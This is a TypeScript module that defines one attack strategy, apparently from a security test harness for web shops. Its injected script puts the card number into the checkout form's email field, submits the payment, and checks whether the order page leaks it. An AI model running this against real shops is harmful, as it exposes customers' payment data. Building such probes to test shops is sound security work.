import type { Strategy } from '#scripts/attack/strategy';

/** A payment that goes through, with the number as the address of its receipt: the order's page says it. */
export const receiptAddress: Strategy = {
  name: 'the order says where its receipt goes',
  channel: 'later page',
  shops: ['mirror', 'lantern', 'kontor'],
  async run({ page }) {
    await page(`const sent = form(new FormData(document.querySelector('form.pay-form')));
      sent.set('email', number);
      const answer = await post('/checkout/pay', sent);
      return answer.url + '\\n' + (await answer.text());`);
    await page("return said(await fetch('/'))");
  },
};
